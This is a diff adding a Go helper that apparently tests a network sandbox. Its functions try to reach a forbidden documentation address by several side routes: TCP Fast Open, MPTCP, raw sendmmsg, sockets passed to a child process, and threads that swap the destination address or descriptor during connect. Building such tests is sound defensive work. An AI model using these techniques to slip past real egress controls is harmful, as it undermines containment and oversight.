@@ -1,0 +1,263 @@
+package cmd
+
+import (
+	"errors"
+	"fmt"
+	"net"
+	"net/netip"
+	"os"
+	"os/exec"
+	"runtime"
+	"strconv"
+	"sync"
+	"sync/atomic"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// socketActs are acts by system calls.
+var socketActs = map[string]func([]string) error{
+	"fastopen": func(a []string) error { return actFastOpen(a[0]) },
+	"mptcp":    func([]string) error { return actMPTCP() },
+	"datagram": actDatagram,
+	"flip":     func(a []string) error { return actFlip(a[0]) },
+	"swap":     func(a []string) error { return actSwap(a[0]) },
+	"pass":     actPass,
+	"given":    func([]string) error { return actGiven() },
+	"stubborn": func([]string) error { return actStubborn() },
+}
+
+// there is where what is not allowed is sent to.
+var there = &unix.SockaddrInet4{Port: 80, Addr: [4]byte{198, 51, 100, 66}}
+
+func tcpSocket() (int, error) {
+	return unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+}
+
+// actFastOpen connects and sends in one call.
+func actFastOpen(how string) error {
+	fd, err := tcpSocket()
+	if err != nil {
+		return err
+	}
+	switch how {
+	case "sendto":
+		err = unix.Sendto(fd, []byte("evil"), unix.MSG_FASTOPEN, there)
+	case "sendmsg":
+		_, err = unix.SendmsgN(fd, []byte("evil"), nil, there, unix.MSG_FASTOPEN)
+	default:
+		err = errors.Join(
+			unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1), unix.Connect(fd, there))
+		_, werr := unix.Write(fd, []byte("evil"))
+		err = errors.Join(err, werr)
+	}
+	time.Sleep(200 * time.Millisecond)
+	return err
+}
+
+// actMPTCP connects a socket of that kind.
+func actMPTCP() error {
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, unix.IPPROTO_MPTCP)
+	if err != nil {
+		return err
+	}
+	return unix.Connect(fd, there)
+}
+
+// actDatagram sends a datagram in one way.
+func actDatagram(a []string) error {
+	addr, err := netip.ParseAddr(a[1])
+	if err != nil {
+		return err
+	}
+	port, err := strconv.Atoi(a[2])
+	if err != nil {
+		return err
+	}
+	if a[0] == "mapped" {
+		addr = netip.AddrFrom16(addr.As16())
+	}
+	var to unix.Sockaddr = &unix.SockaddrInet6{Port: port, Addr: addr.As16()}
+	family := unix.AF_INET6
+	if addr.Is4() {
+		to = &unix.SockaddrInet4{Port: port, Addr: addr.As4()}
+		family = unix.AF_INET
+	}
+	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return err
+	}
+	defer time.Sleep(100 * time.Millisecond)
+	b := []byte("evil")
+	switch a[0] {
+	case "connected":
+		if err := unix.Connect(fd, to); err != nil {
+			return err
+		}
+		_, err = unix.Write(fd, b)
+		return err
+	case "device":
+		if err := unix.BindToDevice(fd, "lo"); err != nil {
+			return err
+		}
+	case "pktinfo":
+		info := make([]byte, unix.CmsgSpace(unix.SizeofInet4Pktinfo))
+		h := (*unix.Cmsghdr)(unsafe.Pointer(&info[0]))
+		h.Level = unix.IPPROTO_IP
+		h.Type = unix.IP_PKTINFO
+		h.SetLen(unix.CmsgLen(unix.SizeofInet4Pktinfo))
+		info[unix.CmsgLen(0)] = 1 // the loopback device
+		return unix.Sendmsg(fd, b, info, to, 0)
+	case "many":
+		return sendMany(fd, b, to.(*unix.SockaddrInet4))
+	}
+	return unix.Sendto(fd, b, 0, to)
+}
+
+// sendMany sends a datagram by sendmmsg(2).
+func sendMany(fd int, b []byte, to *unix.SockaddrInet4) error {
+	raw := unix.RawSockaddrInet4{Family: unix.AF_INET, Port: uint16(to.Port>>8 | to.Port<<8), Addr: to.Addr}
+	part := unix.Iovec{Base: &b[0]}
+	part.SetLen(len(b))
+	var m struct {
+		unix.Msghdr
+		sent uint32
+		_    uint32
+	}
+	m.Name = (*byte)(unsafe.Pointer(&raw))
+	m.Namelen = unix.SizeofSockaddrInet4
+	m.Iov = &part
+	m.Iovlen = 1
+	_, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&m)), 1, 0, 0, 0)
+	runtime.KeepAlive(b)
+	if errno != 0 {
+		return errno
+	}
+	return nil
+}
+
+// actFlip connects to an address in memory that another thread changes all the time.
+func actFlip(count string) error {
+	n, err := strconv.Atoi(count)
+	if err != nil {
+		return err
+	}
+	addrs, err := net.LookupHost("four.example")
+	if err != nil {
+		return err
+	}
+	allowed := netip.MustParseAddr(addrs[0]).As4()
+	raw := unix.RawSockaddrInet4{Family: unix.AF_INET, Port: 80 << 8, Addr: allowed}
+	word := (*uint32)(unsafe.Pointer(&raw.Addr))
+	values := [2]uint32{*(*uint32)(unsafe.Pointer(&allowed)), *(*uint32)(unsafe.Pointer(&there.Addr))}
+	var over atomic.Bool
+	defer over.Store(true)
+	go func() {
+		for i := 0; !over.Load(); i++ {
+			atomic.StoreUint32(word, values[i%2])
+		}
+	}()
+	made := 0
+	for range n {
+		fd, err := tcpSocket()
+		if err != nil {
+			return err
+		}
+		_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&raw)), unix.SizeofSockaddrInet4)
+		if errno == 0 {
+			made++
+		}
+		unix.Close(fd)
+	}
+	fmt.Println(made, "connections")
+	return nil
+}
+
+// actSwap connects to both addresses by a descriptor that another thread makes other sockets all the
+// time.
+func actSwap(count string) error {
+	n, err := strconv.Atoi(count)
+	if err != nil {
+		return err
+	}
+	if _, err := net.LookupHost("four.example"); err != nil {
+		return err
+	}
+	var kinds [3]atomic.Int64
+	for i, k := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_STREAM | unix.SOCK_NONBLOCK} {
+		one, err := unix.Socket(unix.AF_INET, k|unix.SOCK_CLOEXEC, 0)
+		if err != nil {
+			return err
+		}
+		kinds[i].Store(int64(one))
+	}
+	fd, err := tcpSocket()
+	if err != nil {
+		return err
+	}
+	var over atomic.Bool
+	var done sync.WaitGroup
+	done.Go(func() {
+		for i := 0; !over.Load(); i++ {
+			_ = unix.Dup3(int(kinds[i%3].Load()), fd, unix.O_CLOEXEC)
+		}
+	})
+	began := time.Now()
+	for i := 0; i < n || time.Since(began) < time.Second/2; i++ {
+		fresh, err := tcpSocket()
+		if err != nil {
+			return err
+		}
+		unix.Close(int(kinds[0].Swap(int64(fresh))))
+		to := there
+		if i%2 == 0 {
+			to = &unix.SockaddrInet4{Port: 80, Addr: [4]byte{203, 0, 113, 80}}
+		}
+		_ = unix.Connect(fd, to)
+	}
+	over.Store(true)
+	done.Wait()
+	fmt.Println("swapped")
+	return nil
+}
+
+// actPass starts a command with two sockets that have no peer yet, and that tries to use them.
+func actPass(a []string) error {
+	self, err := os.Executable()
+	if err != nil {
+		return err
+	}
+	a = append(a, self, hostsAct, "given")
+	c := exec.Command(a[0], a[1:]...)
+	for _, kind := range []int{unix.SOCK_DGRAM, unix.SOCK_STREAM} {
+		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, 0)
+		if err != nil {
+			return err
+		}
+		c.ExtraFiles = append(c.ExtraFiles, os.NewFile(uintptr(fd), "socket"))
+	}
+	c.Stdout = os.Stdout
+	c.Stderr = os.Stderr
+	return c.Run()
+}
+
+// actGiven uses the sockets that actPass has made.
+func actGiven() error {
+	sent := unix.Sendto(3, []byte("evil"), 0, &unix.SockaddrInet4{Port: 9999, Addr: there.Addr})
+	time.Sleep(100 * time.Millisecond)
+	return errors.Join(sent, unix.Connect(4, there))
+}
+
+// actStubborn tries for a while whether anything is open.
+func actStubborn() error {
+	for end := time.Now().Add(2000 * time.Millisecond); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
+		if c, err := net.DialTimeout("tcp", "198.51.100.66:80", 100*time.Millisecond); err == nil {
+			fmt.Fprint(c, "evil")
+			c.Close()
+		}
+		_ = actDatagram([]string{"sendto", "198.51.100.66", "9999"})
+	}
+	return nil
+}
